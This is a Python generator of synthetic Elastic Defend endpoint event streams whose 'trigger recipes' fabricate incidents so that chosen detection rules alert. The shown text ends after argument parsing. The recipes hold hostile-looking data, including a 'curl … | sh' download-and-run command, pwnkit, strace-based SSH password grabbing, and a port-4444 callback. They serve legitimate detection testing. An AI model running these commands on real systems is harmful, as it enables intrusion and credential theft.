#!/usr/bin/env python3
"""Deterministic generator of realistic ECS event streams (NDJSON on standard output).

The events look like Elastic Defend (endpoint) events: agent, ecs.version, host.* (Windows,
Linux and macOS hosts), user.*, process.* with args arrays, parents, code signatures and
hashes, event.{category,type} arrays, event.{action,kind,dataset,module,ingested},
data_stream.*, and file, network, registry, dns and authentication details. Timestamps are
ISO-8601 in increasing order, --rate events per second of event time. The same arguments
always give the same bytes (python3 standard library only).

A share of the events can be incidents that make chosen detection rules alert (event rules,
sequences, samples): --trigger-rules names rule files or folders, and the rules among them
that have a recipe here (--list-triggers) get incidents spread evenly over the stream.

    tools/gen_events.py --events 1000000 --hosts 1000 > events.ndjson
    tools/gen_events.py --events 100000 --trigger-share 0.001 \\
        --trigger-rules ../shared/corpus/detection-rules > events.ndjson

--defend adds what Elastic Defend's behavior rules read on Windows hosts: api and library
events, file.Ext fields, and process trees whose process.parent.entity_id chains lead to
processes started earlier (tools/gen_events_defend.py). Without it the output is unchanged.
"""
import argparse
import base64
import hashlib
import json
import pathlib
import random
import sys
import time

try:
    import tomllib
except ImportError:  # Python < 3.11: rule ids are then read with a regular expression
    tomllib = None

ECS_VERSION = "8.11.0"
AGENT_VERSION = "8.11.1"

OS_PROFILES = {
    "windows": [
        {"family": "windows", "name": "Windows 10 Pro", "platform": "windows", "version": "10.0",
         "kernel": "22H2 (10.0.19045.3693)", "full": "Windows 10 Pro 22H2 (10.0.19045.3693)"},
        {"family": "windows", "name": "Windows Server 2019 Datacenter", "platform": "windows", "version": "10.0",
         "kernel": "1809 (10.0.17763.5122)", "full": "Windows Server 2019 Datacenter 1809 (10.0.17763.5122)"},
    ],
    "linux": [
        {"family": "ubuntu", "name": "Ubuntu", "platform": "ubuntu", "version": "22.04.3 LTS (Jammy Jellyfish)",
         "kernel": "5.15.0-91-generic #101-Ubuntu SMP", "full": "Ubuntu 22.04.3"},
        {"family": "rhel", "name": "Red Hat Enterprise Linux", "platform": "rhel", "version": "9.3 (Plow)",
         "kernel": "5.14.0-362.8.1.el9_3.x86_64", "full": "Red Hat Enterprise Linux 9.3"},
    ],
    "macos": [
        {"family": "darwin", "name": "macOS", "platform": "darwin", "version": "14.1.1",
         "kernel": "23.1.0", "full": "macOS 14.1.1"},
    ],
}
OS_ORDER = ["windows", "linux", "macos"]  # host n runs OS_ORDER[n % 3]

# Processes by OS: name, executable, arguments after argv[0], parent name, parent executable,
# signer. Arguments may hold {n} (a counter) and {u} (the user name).
PROCESSES = {
    "windows": [
        ("svchost.exe", "C:\\Windows\\System32\\svchost.exe", ["-k", "netsvcs", "-p", "-s", "Schedule"],
         "services.exe", "C:\\Windows\\System32\\services.exe", "Microsoft Windows"),
        ("cmd.exe", "C:\\Windows\\System32\\cmd.exe", ["/c", "echo", "{n}", ">", "C:\\Windows\\Temp\\out{n}.txt"],
         "explorer.exe", "C:\\Windows\\explorer.exe", "Microsoft Windows"),
        ("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
         ["-NoProfile", "-ExecutionPolicy", "Bypass", "-File", "C:\\Scripts\\inventory{n}.ps1"],
         "cmd.exe", "C:\\Windows\\System32\\cmd.exe", "Microsoft Windows"),
        ("conhost.exe", "C:\\Windows\\System32\\conhost.exe", ["0xffffffff", "-ForceV1"],
         "cmd.exe", "C:\\Windows\\System32\\cmd.exe", "Microsoft Windows"),
        ("chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
         ["--type=renderer", "--renderer-client-id={n}"], "explorer.exe", "C:\\Windows\\explorer.exe", "Google LLC"),
        ("msedge.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
         ["--type=utility", "--utility-sub-type=network.mojom.NetworkService"],
         "explorer.exe", "C:\\Windows\\explorer.exe", "Microsoft Corporation"),
        ("rundll32.exe", "C:\\Windows\\System32\\rundll32.exe", ["C:\\Windows\\System32\\shell32.dll,Control_RunDLL"],
         "explorer.exe", "C:\\Windows\\explorer.exe", "Microsoft Windows"),
        ("taskhostw.exe", "C:\\Windows\\System32\\taskhostw.exe", [], "svchost.exe",
         "C:\\Windows\\System32\\svchost.exe", "Microsoft Windows"),
        ("OneDrive.exe", "C:\\Users\\{u}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", ["/background"],
         "explorer.exe", "C:\\Windows\\explorer.exe", "Microsoft Corporation"),
    ],
    "linux": [
        ("bash", "/usr/bin/bash", ["-c", "uptime"], "sshd", "/usr/sbin/sshd", None),
        ("python3", "/usr/bin/python3", ["/opt/app/worker.py", "--job", "{n}"], "systemd", "/usr/lib/systemd/systemd", None),
        ("curl", "/usr/bin/curl", ["-fsS", "https://updates.example.com/v1/check?id={n}"], "bash", "/usr/bin/bash", None),
        ("cron", "/usr/sbin/cron", ["-f"], "systemd", "/usr/lib/systemd/systemd", None),
        ("sudo", "/usr/bin/sudo", ["systemctl", "restart", "nginx"], "bash", "/usr/bin/bash", None),
        ("nginx", "/usr/sbin/nginx", ["-g", "daemon off;"], "systemd", "/usr/lib/systemd/systemd", None),
        ("grep", "/usr/bin/grep", ["-r", "ERROR", "/var/log/app"], "bash", "/usr/bin/bash", None),
        ("sshd", "/usr/sbin/sshd", ["-D", "-R"], "sshd", "/usr/sbin/sshd", None),
        ("java", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", ["-Xmx2g", "-jar", "/opt/svc/service.jar"],
         "systemd", "/usr/lib/systemd/systemd", None),
    ],
    "macos": [
        ("zsh", "/bin/zsh", ["-l"], "login", "/usr/bin/login", "Software Signing"),
        ("mdworker_shared", "/System/Library/Frameworks/CoreServices.framework/Versions/A/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared",
         ["-s", "mdworker", "-c", "MDSImporterWorker", "-m", "com.apple.mdworker.shared"],
         "launchd", "/sbin/launchd", "Software Signing"),
        ("Safari", "/Applications/Safari.app/Contents/MacOS/Safari", [], "launchd", "/sbin/launchd", "Software Signing"),
        ("git", "/usr/bin/git", ["fetch", "--all"], "zsh", "/bin/zsh", "Software Signing"),
        ("softwareupdated", "/System/Library/PrivateFrameworks/SoftwareUpdate.framework/Resources/softwareupdated",
         [], "launchd", "/sbin/launchd", "Software Signing"),
        ("Slack", "/Applications/Slack.app/Contents/MacOS/Slack", [], "launchd", "/sbin/launchd",
         "Developer ID Application: Slack Technologies, Inc. (BQR82RBBHL)"),
        ("python3", "/usr/bin/python3", ["/Users/{u}/bin/sync.py"], "zsh", "/bin/zsh", "Software Signing"),
    ],
}

FILE_PATHS = {
    "windows": ["C:\\Users\\{u}\\AppData\\Local\\Temp\\tmp{n}.tmp", "C:\\Users\\{u}\\Documents\\report{n}.docx",
                "C:\\Windows\\Temp\\MpCmdRun{n}.log", "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\mpcache-{n}.bin"],
    "linux": ["/var/log/app/app{n}.log", "/var/lib/app/state{n}.json", "/home/{u}/notes{n}.txt", "/etc/nginx/conf.d/site{n}.conf"],
    "macos": ["/Users/{u}/Library/Caches/com.apple.Safari/Cache{n}.db", "/Users/{u}/Downloads/invoice{n}.pdf",
              "/private/var/folders/zz/T/tmp{n}.plist", "/Users/{u}/Library/Application Support/Slack/log{n}.txt"],
}
REGISTRY_KEYS = [
    ("HKLM", "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Auto Update", "LastOnlineScanTimeForAppCategory", "REG_SZ"),
    ("HKLM", "SYSTEM\\ControlSet001\\Services\\bam\\State\\UserSettings\\S-1-5-21-1004336348-1177238915-682003330-1001",
     "\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe", "REG_BINARY"),
    ("HKU", "S-1-5-21-1004336348-1177238915-682003330-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs",
     "MRUListEx", "REG_BINARY"),
    ("HKLM", "SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates", "SignaturesLastUpdated", "REG_BINARY"),
]
DOMAINS = ["www.google.com", "login.microsoftonline.com", "updates.example.com", "www.office.com", "www.bing.com",
           "time.apple.com", "ocsp.digicert.com", "intranet.corp.example", "wpad.corp.example", "www.wikipedia.org"]
# Who opens connections, by OS: (process name, executable, pid or None, remote ports).
NETWORK_PROCESSES = {
    "windows": [("System", "System", 4, (445,)), ("chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", None, (443, 80)),
                ("svchost.exe", "C:\\Windows\\System32\\svchost.exe", None, (443, 80, 135))],
    "linux": [("curl", "/usr/bin/curl", None, (443, 80)), ("sshd", "/usr/sbin/sshd", None, (22,)),
              ("nginx", "/usr/sbin/nginx", None, (8080, 443)), ("java", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", None, (5432, 443))],
    "macos": [("Safari", "/Applications/Safari.app/Contents/MacOS/Safari", None, (443, 80)),
              ("Slack", "/Applications/Slack.app/Contents/MacOS/Slack", None, (443,)),
              ("softwareupdated", "/System/Library/PrivateFrameworks/SoftwareUpdate.framework/Resources/softwareupdated", None, (443,))],
}
USERS = {"windows": ["jdoe", "asmith", "svc_backup", "administrator"], "linux": ["ubuntu", "root", "deploy", "www-data"],
         "macos": ["alice", "bob", "carol"]}
DATA_STREAMS = {"process": "endpoint.events.process", "file": "endpoint.events.file",
                "network": "endpoint.events.network", "registry": "endpoint.events.registry",
                "dns": "endpoint.events.network", "authentication": "endpoint.events.security"}
CATEGORY_WEIGHTS = [("process", 30), ("file", 25), ("network", 20), ("registry", 10), ("dns", 10),
                    ("authentication", 5)]


def digest(text, size=16):
    return hashlib.blake2b(text.encode(), digest_size=size).digest()


def hex_of(text, size):
    return digest(text, size).hex()


def uuid_of(text):
    h = hex_of(text, 16)
    return "%s-%s-%s-%s-%s" % (h[0:8], h[8:12], h[12:16], h[16:20], h[20:32])


class Clock:
    """ISO-8601 text of epoch milliseconds, with the second's prefix cached."""

    def __init__(self):
        self.second = None
        self.prefix = ""

    def iso(self, millis):
        second, rest = divmod(millis, 1000)
        if second != self.second:
            self.second = second
            self.prefix = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(second))
        return "%s.%03dZ" % (self.prefix, rest)


class Host:
    def __init__(self, number):
        self.number = number
        self.os_type = OS_ORDER[number % 3]
        profiles = OS_PROFILES[self.os_type]
        profile = profiles[(number // 3) % len(profiles)]
        prefix = {"windows": "WIN", "linux": "lnx", "macos": "mbp"}[self.os_type]
        name = "%s-%05d" % (prefix, number)
        self.id = uuid_of("host-%d" % number)
        self.agent_id = uuid_of("agent-%d" % number)
        self.ip = ["10.%d.%d.%d" % (number >> 16 & 255, number >> 8 & 255, number & 255 or 1),
                   "fe80::%x:%x" % (number >> 16, number & 0xFFFF)]
        self.host = {"id": self.id, "name": name, "hostname": name, "architecture": "x86_64" if self.os_type != "macos" else "arm64",
                     "ip": self.ip, "mac": ["00-50-56-%02X-%02X-%02X" % (number >> 16 & 255, number >> 8 & 255, number & 255)],
                     "os": {"type": self.os_type, "family": profile["family"], "name": profile["name"],
                            "platform": profile["platform"], "version": profile["version"],
                            "kernel": profile["kernel"], "full": profile["full"]}}
        self.agent = {"id": self.agent_id, "type": "endpoint", "version": AGENT_VERSION}
        self.users = USERS[self.os_type]
        self.recent = []  # recent processes, for file/network/dns events to refer to
        self.counter = 0

    def user(self, name):
        if self.os_type == "windows":
            rid = 500 if name == "administrator" else 1000 + self.users.index(name)
            return {"name": name, "domain": "CORP", "id": "S-1-5-21-1004336348-1177238915-682003330-%d" % rid}
        uid = 0 if name == "root" else 501 + self.users.index(name)
        return {"name": name, "id": str(uid)}

    def entity_id(self, pid):
        self.counter += 1
        return base64.b64encode(digest("%s/%d/%d" % (self.id, pid, self.counter), 30)).decode()


class Generator:
    def __init__(self, args):
        self.rng = random.Random(args.seed)
        self.hosts_count = args.hosts
        self.hosts = {}
        self.clock = Clock()
        self.start = args.start
        self.step = 1000.0 / args.rate
        self.sequence = 0
        self.categories = [c for c, w in CATEGORY_WEIGHTS for _ in range(w)]
        self.encoder = json.JSONEncoder(check_circular=False, separators=(",", ":"), ensure_ascii=False)

    def host(self, number):
        host = self.hosts.get(number)
        if host is None:
            host = self.hosts[number] = Host(number)
        return host

    def host_of_os(self, os_type):
        wanted = OS_ORDER.index(os_type)
        if self.hosts_count < 3:
            return self.host(wanted)
        number = self.rng.randrange(self.hosts_count // 3 + (1 if wanted < self.hosts_count % 3 else 0)) * 3 + wanted
        return self.host(number)

    # ---- building blocks ----------------------------------------------------------------

    def base(self, host, millis, category, types, action, dataset=None, lag=None):
        self.sequence += 1
        stamp = self.clock.iso(millis)
        if lag is None:
            lag = 400 + self.sequence * 7919 % 2100
        dataset = dataset or DATA_STREAMS[category]
        event_category = ["network"] if category == "dns" else [category]
        return {
            "@timestamp": stamp,
            "agent": host.agent,
            "data_stream": {"type": "logs", "dataset": dataset, "namespace": "default"},
            "ecs": {"version": ECS_VERSION},
            "elastic": {"agent": {"id": host.agent_id}},
            "event": {"agent_id_status": "verified", "category": event_category, "type": types, "action": action,
                      "kind": "event", "dataset": dataset, "module": "endpoint",
                      "id": base64.b64encode(digest("e%d" % self.sequence, 12)).decode(),
                      "sequence": self.sequence, "created": stamp, "ingested": self.clock_iso_later(millis, lag)},
            "host": host.host,
        }

    def clock_iso_later(self, millis, lag):
        second, rest = divmod(millis + lag, 1000)
        return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(second)) + ".%03dZ" % rest

    def process_fields(self, host, name, executable, args, parent_name, parent_executable, signer, user, pid=None):
        pid = pid or 1000 + self.rng.randrange(60000)
        parent_pid = 400 + self.rng.randrange(30000)
        argv = [executable] + args
        command_line = " ".join(('"%s"' % a if " " in a else a) for a in argv)
        process = {
            "name": name, "executable": executable, "command_line": command_line, "args": argv,
            "args_count": len(argv), "pid": pid, "entity_id": host.entity_id(pid),
            "working_directory": "C:\\Windows\\system32" if host.os_type == "windows" else "/home/%s" % user["name"],
            "parent": {"name": parent_name, "executable": parent_executable, "pid": parent_pid,
                       "entity_id": host.entity_id(parent_pid), "args": [parent_executable],
                       "command_line": parent_executable, "args_count": 1},
            "hash": {"md5": hex_of(executable, 16), "sha1": hex_of("1" + executable, 20),
                     "sha256": hex_of("256" + executable, 32)},
        }
        if host.os_type == "windows":
            process["pe"] = {"original_file_name": name.upper() if name.endswith(".exe") else name,
                             "company": "Microsoft Corporation" if signer and "Microsoft" in signer else None}
            if process["pe"]["company"] is None:
                del process["pe"]["company"]
        if signer:
            process["code_signature"] = {"subject_name": signer, "trusted": True, "exists": True, "status": "trusted"}
            if host.os_type == "macos":
                process["code_signature"]["signing_id"] = "com.apple." + name.lower()
        return process

    def remember(self, host, process):
        host.recent.append(process)
        if len(host.recent) > 8:
            del host.recent[0]

    def short_process(self, host):
        if not host.recent:
            self.background_process(host, 0, remember_only=True)
        p = self.rng.choice(host.recent)
        return {"name": p["name"], "executable": p["executable"], "pid": p["pid"], "entity_id": p["entity_id"]}

    # ---- background events ----------------------------------------------------------------

    def background_process(self, host, millis, remember_only=False):
        name, exe, args, parent, parent_exe, signer = self.rng.choice(PROCESSES[host.os_type])
        user_name = self.rng.choice(host.users)
        n = str(self.rng.randrange(100000))
        args = [a.replace("{n}", n).replace("{u}", user_name) for a in args]
        exe = exe.replace("{u}", user_name)
        user = host.user(user_name)
        process = self.process_fields(host, name, exe, args, parent, parent_exe, signer, user)
        self.remember(host, process)
        if remember_only:
            return None
        ending = self.rng.random() < 0.25
        if host.os_type == "windows":
            action = "end" if ending else "start"
        else:
            action = "end" if ending else ("fork" if self.rng.random() < 0.1 else "exec")
        event = self.base(host, millis, "process", ["end"] if ending else ["start"], action)
        event["process"] = process
        event["user"] = user
        event["message"] = "Endpoint process event"
        return event

    def background_file(self, host, millis):
        user_name = self.rng.choice(host.users)
        path = self.rng.choice(FILE_PATHS[host.os_type]).replace("{u}", user_name).replace("{n}", str(self.rng.randrange(10000)))
        sep = "\\" if host.os_type == "windows" else "/"
        directory, _, name = path.rpartition(sep)
        kind = self.rng.random()
        types, action = (["creation"], "creation") if kind < 0.5 else (["change"], "modification") if kind < 0.85 else (["deletion"], "deletion")
        event = self.base(host, millis, "file", types, action)
        event["file"] = {"path": path, "name": name, "directory": directory,
                         "extension": name.rpartition(".")[2] if "." in name else "",
                         "size": self.rng.randrange(1, 5_000_000)}
        event["process"] = self.short_process(host)
        event["user"] = host.user(user_name)
        return event

    def background_network(self, host, millis):
        name, executable, fixed_pid, ports = self.rng.choice(NETWORK_PROCESSES[host.os_type])
        port = self.rng.choice(ports)
        outgoing = self.rng.random() < 0.8
        action = self.rng.choice(("connection_attempted", "disconnect_received")) if outgoing else "connection_accepted"
        event = self.base(host, millis, "network", ["start"] if action != "disconnect_received" else ["end"], action)
        remote = "%d.%d.%d.%d" % (self.rng.choice((13, 20, 34, 52, 104, 140, 172, 192)), self.rng.randrange(256),
                                  self.rng.randrange(256), 1 + self.rng.randrange(254))
        local_port = 49152 + self.rng.randrange(16000)
        if outgoing:
            event["source"] = {"ip": host.ip[0], "port": local_port, "address": host.ip[0]}
            event["destination"] = {"ip": remote, "port": port, "address": remote}
        else:
            event["source"] = {"ip": remote, "port": local_port, "address": remote}
            event["destination"] = {"ip": host.ip[0], "port": port, "address": host.ip[0]}
        event["network"] = {"transport": "tcp", "type": "ipv4", "direction": "egress" if outgoing else "ingress"}
        pid = fixed_pid or 1000 + self.rng.randrange(60000)
        event["process"] = {"name": name, "executable": executable, "pid": pid,
                            "entity_id": host.entity_id(pid) if pid != 4 else "e30=" + host.id}
        event["user"] = host.user(self.rng.choice(host.users))
        return event

    def background_registry(self, host, millis):
        if host.os_type != "windows":
            return self.background_file(host, millis)
        hive, key, value, data_type = self.rng.choice(REGISTRY_KEYS)
        event = self.base(host, millis, "registry", ["change"], "modification")
        event["registry"] = {"hive": hive, "key": key, "value": value, "path": "%s\\%s\\%s" % (hive, key, value),
                             "data": {"type": data_type, "strings": ["%d" % self.rng.randrange(1 << 31)]}}
        event["process"] = self.short_process(host)
        event["user"] = host.user(self.rng.choice(host.users))
        return event

    def background_dns(self, host, millis):
        domain = self.rng.choice(DOMAINS)
        event = self.base(host, millis, "dns", ["protocol", "info"], "lookup_requested")
        event["dns"] = {"question": {"name": domain, "type": "A", "registered_domain": ".".join(domain.split(".")[-2:])},
                        "resolved_ip": ["%d.%d.%d.%d" % (140, 82, self.rng.randrange(256), self.rng.randrange(256))]}
        event["process"] = self.short_process(host)
        event["network"] = {"protocol": "dns", "transport": "udp", "type": "ipv4"}
        return event

    def background_authentication(self, host, millis):
        user_name = self.rng.choice(host.users)
        failed = self.rng.random() < 0.1
        action = "log_on"
        event = self.base(host, millis, "authentication", ["start"], action)
        event["event"]["outcome"] = "failure" if failed else "success"
        event["user"] = host.user(user_name)
        event["source"] = {"ip": "10.20.%d.%d" % (self.rng.randrange(256), 1 + self.rng.randrange(254))}
        if host.os_type == "windows":
            event["process"] = {"name": "lsass.exe", "executable": "C:\\Windows\\System32\\lsass.exe", "pid": 788}
            event["winlog"] = {"logon": {"type": self.rng.choice(("Network", "Interactive", "RemoteInteractive"))}}
        elif host.os_type == "linux":
            event["process"] = {"name": "sshd", "executable": "/usr/sbin/sshd", "pid": 1000 + self.rng.randrange(30000)}
        else:
            event["process"] = {"name": "loginwindow", "executable": "/System/Library/CoreServices/loginwindow.app/Contents/MacOS/loginwindow",
                                "pid": 150}
        return event

    def background(self, millis):
        host = self.host(self.rng.randrange(self.hosts_count))
        category = self.categories[self.rng.randrange(len(self.categories))]
        return getattr(self, "background_" + category)(host, millis)

    def encode(self, event):
        return self.encoder.encode(event)


# ---- trigger recipes: incidents that make one corpus rule alert ---------------------------------
# Each takes the generator and the event times of its events (consecutive slots of the
# stream) and returns the events. Keyed by the rule's rule_id; `file` is where the rule
# lives in the detection-rules repository.

def recipe_process(gen, host, millis, name, exe, args, parent=("explorer.exe", "C:\\Windows\\explorer.exe"),
                   types=("start",), action=None, user=None, pid=None, signer=None):
    user = host.user(user or host.users[0])
    event = gen.base(host, millis, "process", list(types), action or ("start" if host.os_type == "windows" else "exec"),
                     lag=900)
    event["process"] = gen.process_fields(host, name, exe, list(args), parent[0], parent[1], signer, user, pid)
    event["user"] = user
    return event


def r_wbemtest(gen, times):
    host = gen.host_of_os("windows")
    return [recipe_process(gen, host, times[0], "wbemtest.exe", "C:\\Windows\\System32\\wbem\\wbemtest.exe", [],
                           signer="Microsoft Windows")]


def r_at_enabled(gen, times):
    host = gen.host_of_os("windows")
    event = gen.base(host, times[0], "registry", ["change"], "modification", lag=900)
    key = "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\Configuration"
    event["registry"] = {"hive": "HKLM", "key": key, "value": "EnableAt", "path": "HKLM\\%s\\EnableAt" % key,
                         "data": {"type": "REG_DWORD", "strings": ["1"]}}
    event["process"] = {"name": "reg.exe", "executable": "C:\\Windows\\System32\\reg.exe", "pid": 5120,
                        "entity_id": host.entity_id(5120)}
    return [event]


def r_kerberos_dns(gen, times):
    host = gen.host_of_os("windows")
    event = gen.base(host, times[0], "dns", ["protocol", "info"], "lookup_requested", lag=900)
    event["dns"] = {"question": {"name": "fileserver1UWhRCAAAAAAAAAAAAAAAAAAAAAAAAAAAAwbEAYBAAAA.corp.example", "type": "A"}}
    event["process"] = {"name": "svchost.exe", "executable": "C:\\Windows\\System32\\svchost.exe", "pid": 2244,
                        "entity_id": host.entity_id(2244)}
    return [event]


def r_pkexec_gconv(gen, times):
    host = gen.host_of_os("linux")
    event = gen.base(host, times[0], "file", ["creation"], "creation", lag=900)
    event["file"] = {"path": "/tmp/GCONV_PATH=.", "name": "GCONV_PATH=.", "directory": "/tmp", "extension": ""}
    event["process"] = {"name": "pwnkit", "executable": "/tmp/pwnkit", "pid": 31337, "entity_id": host.entity_id(31337)}
    event["user"] = host.user("deploy")
    return [event]


def r_screensaver_child(gen, times):
    host = gen.host_of_os("macos")
    return [recipe_process(gen, host, times[0], "bash", "/bin/bash", ["-c", "curl -s http://203.0.113.9/x | sh"],
                           parent=("ScreenSaverEngine", "/System/Library/CoreServices/ScreenSaverEngine.app/Contents/MacOS/ScreenSaverEngine"))]


def r_nslookup_tunnel(gen, times):
    host = gen.host_of_os("windows")
    return [recipe_process(gen, host, t, "nslookup.exe", "C:\\Windows\\System32\\nslookup.exe",
                           ["-querytype=TXT", "%s.t.tunnel.example" % hex_of("q%d%d" % (t, i), 6)],
                           parent=("cmd.exe", "C:\\Windows\\System32\\cmd.exe"), signer="Microsoft Windows")
            for i, t in enumerate(times)]


def r_sshd_strace(gen, times):
    host = gen.host_of_os("linux")
    end = recipe_process(gen, host, times[0], "sshd", "/usr/sbin/sshd", ["-D", "-R"], parent=("sshd", "/usr/sbin/sshd"),
                         types=("end",), action="end", user="root")
    start = recipe_process(gen, host, times[1], "strace", "/usr/bin/strace",
                           ["-f", "-p", str(end["process"]["pid"]), "-e", "trace=read,write"],
                           parent=("bash", "/usr/bin/bash"), user="root")
    return [end, start]


def r_automator(gen, times):
    host = gen.host_of_os("macos")
    start = recipe_process(gen, host, times[0], "Automator", "/usr/bin/automator", ["/tmp/update.workflow"],
                           parent=("zsh", "/bin/zsh"), signer="Software Signing")
    network = gen.base(host, times[1], "network", ["start"], "connection_attempted", lag=900)
    p = start["process"]
    network["process"] = {"name": p["name"], "executable": p["executable"], "pid": p["pid"], "entity_id": p["entity_id"]}
    network["source"] = {"ip": host.ip[0], "port": 52011}
    network["destination"] = {"ip": "198.51.100.23", "port": 443}
    network["network"] = {"transport": "tcp", "type": "ipv4", "direction": "egress"}
    return [start, network]


def r_oast(gen, times):
    host = gen.host_of_os("macos")
    start = recipe_process(gen, host, times[0], "python3", "/usr/bin/python3", ["-c", "import urllib.request"],
                           parent=("zsh", "/bin/zsh"), signer="Software Signing")
    network = gen.base(host, times[1], "network", ["start"], "connection_attempted", lag=900)
    p = start["process"]
    network["process"] = {"name": p["name"], "executable": p["executable"], "pid": p["pid"], "entity_id": p["entity_id"]}
    network["destination"] = {"ip": "206.189.156.69", "port": 443, "domain": "%s.oast.fun" % hex_of("o%d" % times[0], 8)}
    network["source"] = {"ip": host.ip[0], "port": 52013}
    network["network"] = {"transport": "tcp", "type": "ipv4", "direction": "egress"}
    return [start, network]


def r_proc_dump(gen, times):
    host = gen.host_of_os("linux")
    ps = recipe_process(gen, host, times[0], "ps", "/usr/bin/ps", ["-eo", "pid,command"], parent=("bash", "/usr/bin/bash"))
    strings = recipe_process(gen, host, times[1], "strings", "/usr/bin/strings", ["/tmp/sshd.core"],
                             parent=("bash", "/usr/bin/bash"))
    return [ps, strings]


def r_launch_daemon(gen, times):
    host = gen.host_of_os("macos")
    writer_pid = 4000 + gen.rng.randrange(20000)
    writer = host.entity_id(writer_pid)
    file_event = gen.base(host, times[0], "file", ["creation"], "launch_daemon", lag=900)
    file_event["file"] = {"path": "/Library/LaunchDaemons/com.update.agent.plist", "name": "com.update.agent.plist",
                          "directory": "/Library/LaunchDaemons", "extension": "plist"}
    file_event["process"] = {"name": "installer", "executable": "/usr/sbin/installer", "pid": writer_pid, "entity_id": writer}
    launchctl = recipe_process(gen, host, times[1], "launchctl", "/bin/launchctl",
                               ["load", "/Library/LaunchDaemons/com.update.agent.plist"], parent=("installer", "/usr/sbin/installer"),
                               signer="Software Signing")
    launchctl["process"]["parent"]["entity_id"] = writer
    launchctl["process"]["parent"]["pid"] = writer_pid
    return [file_event, launchctl]


def r_rwx_netcon(gen, times):
    host = gen.host_of_os("linux")
    pid = 20000 + gen.rng.randrange(40000)
    mprotect = recipe_process(gen, host, times[0], "kworkerd", "/tmp/.x/kworkerd", [], parent=("bash", "/usr/bin/bash"),
                              pid=pid)
    mprotect["event"]["action"] = "mprotect"
    mprotect["auditd"] = {"data": {"syscall": "mprotect", "a2": "7"}}
    network = gen.base(host, times[1], "network", ["start"], "connection_attempted", lag=900)
    network["process"] = {"name": "kworkerd", "executable": "/tmp/.x/kworkerd", "pid": pid,
                          "entity_id": mprotect["process"]["entity_id"]}
    network["destination"] = {"ip": "203.0.113.77", "port": 4444}
    network["source"] = {"ip": host.ip[0], "port": 40112}
    network["network"] = {"transport": "tcp", "type": "ipv4", "direction": "egress"}
    return [mprotect, network]


# rule_id -> (rule file in detection-rules, events per incident, recipe)
RECIPES = {
    "d3551433-782f-4e22-bbea-c816af2d41c6": ("rules_building_block/execution_wmi_wbemtest.toml", 1, r_wbemtest),
    "9aa0e1f6-52ce-42e1-abb3-09657cee2698": ("rules/windows/defense_evasion_scheduledjobs_at_protocol_enabled.toml", 1, r_at_enabled),
    "99ac5005-8a9e-4625-a0af-5f7bb447204b": ("rules/windows/credential_access_kerberos_coerce_dns.toml", 1, r_kerberos_dns),
    "8da41fc9-7735-4b24-9cc6-c78dfc9fc9c9": ("rules/linux/privilege_escalation_pkexec_envar_hijack.toml", 1, r_pkexec_gconv),
    "48d7f54d-c29e-4430-93a9-9db6b5892270": ("rules/macos/persistence_screensaver_engine_unexpected_child_process.toml", 1, r_screensaver_child),
    "3a59fc81-99d3-47ea-8cd6-d48d561fca20": ("rules/windows/command_and_control_dns_tunneling_nslookup.toml", 10, r_nslookup_tunnel),
    "9eaa3fb1-3f70-48ed-bb0e-d7ae4d3c8f28": ("rules/linux/credential_access_ssh_password_grabbing_via_strace.toml", 2, r_sshd_strace),
    "5d9f8cfc-0d03-443e-a167-2b0597ce0965": ("rules/macos/execution_script_via_automator_workflows.toml", 2, r_automator),
    "54214c47-be7c-4f6b-8ef2-78832f9f8f42": ("rules/macos/command_and_control_network_connection_to_oast_domain.toml", 2, r_oast),
    "ef100a2e-ecd4-4f72-9d1e-2f779ff3c311": ("rules/linux/credential_access_proc_credential_dumping.toml", 2, r_proc_dump),
    "082e3f8c-6f80-485c-91eb-5b112cb79b28": ("rules/macos/persistence_creation_change_launch_agents_file.toml", 2, r_launch_daemon),
    "32300431-c2d5-432d-8ec8-0e03f9924756": ("rules/linux/execution_netcon_from_rwx_mem_region_binary.toml", 2, r_rwx_netcon),
}


def rule_ids_under(paths):
    """rule_id of every detection-rules TOML file under the paths, with its file."""
    found = []
    for given in paths:
        root = pathlib.Path(given)
        if not root.exists():
            raise SystemExit("gen_events.py: %s: no such file or folder" % given)
        files = [root] if root.is_file() else sorted(root.rglob("*.toml"))
        for path in files:
            text = path.read_text(encoding="utf-8", errors="replace")
            rule_id = None
            if tomllib:
                try:
                    rule_id = tomllib.loads(text).get("rule", {}).get("rule_id")
                except tomllib.TOMLDecodeError:
                    rule_id = None
            else:
                import re
                match = re.search(r'^rule_id\s*=\s*"([^"]+)"', text, re.M)
                rule_id = match.group(1) if match else None
            if rule_id:
                found.append((rule_id, str(path)))
    return found


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--events", type=int, default=100000, help="number of events")
    parser.add_argument("--hosts", type=int, default=1000, help="distinct hosts (host.id values)")
    parser.add_argument("--rate", type=float, default=1000.0, help="events per second of event time")
    parser.add_argument("--seed", type=int, default=42, help="random seed")
    parser.add_argument("--start", type=int, default=1_700_000_000_000, help="first timestamp, epoch ms")
    parser.add_argument("--trigger-share", type=float, default=0.0,
                        help="share of the events that belong to trigger incidents (e.g. 0.001)")
    parser.add_argument("--trigger-rules", nargs="+", default=[], metavar="PATH",
                        help="rule files or folders: the rules with a recipe get incidents")
    parser.add_argument("--trigger-manifest", metavar="FILE",
                        help="write {rule_id: incidents} of the stream as JSON to FILE")
    parser.add_argument("--defend", action="store_true",
                        help="Elastic Defend-shaped events: api, library, file.Ext, process trees (Windows hosts)")
    parser.add_argument("--list-triggers", action="store_true", help="list the rules that have a recipe, and exit")
    args = parser.parse_args()
